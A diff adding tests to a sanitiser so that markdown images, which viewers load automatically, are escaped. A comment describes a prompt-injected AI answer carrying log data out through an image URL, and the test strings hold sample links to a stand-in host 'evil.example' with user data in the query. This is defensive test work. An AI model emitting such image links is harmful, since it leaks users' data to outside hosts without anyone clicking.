@@ -60,3 +60,17 @@ describe('sanitiseProse', () => {
     expect(Array.from(sanitiseProse('é'.repeat(50), 10))).toHaveLength(10);
   });
 });
+
+describe('sanitiseProse and remote images', () => {
+  // A viewer (git web UI, editor preview, ntfy web app) fetches an image as soon as it shows the
+  // text: a prompt-injected answer could carry log data out in the URL without anyone clicking.
+  it.each([
+    ['inline', 'See ![status](https://evil.example/p?d=row+42+user+bob)'],
+    ['reference', 'See ![status][1]\n\n[1]: https://evil.example/p?d=x'],
+    ['at line start', '![x](http://evil.example/a.png)'],
+  ])('no image is left to load: %s', (_, text) => {
+    const out = sanitiseProse(text, 1000);
+    expect(out).not.toMatch(/(^|[^\\])!\[/);
+    expect(out.replace(/\\/g, '')).toBe(text);
+  });
+});
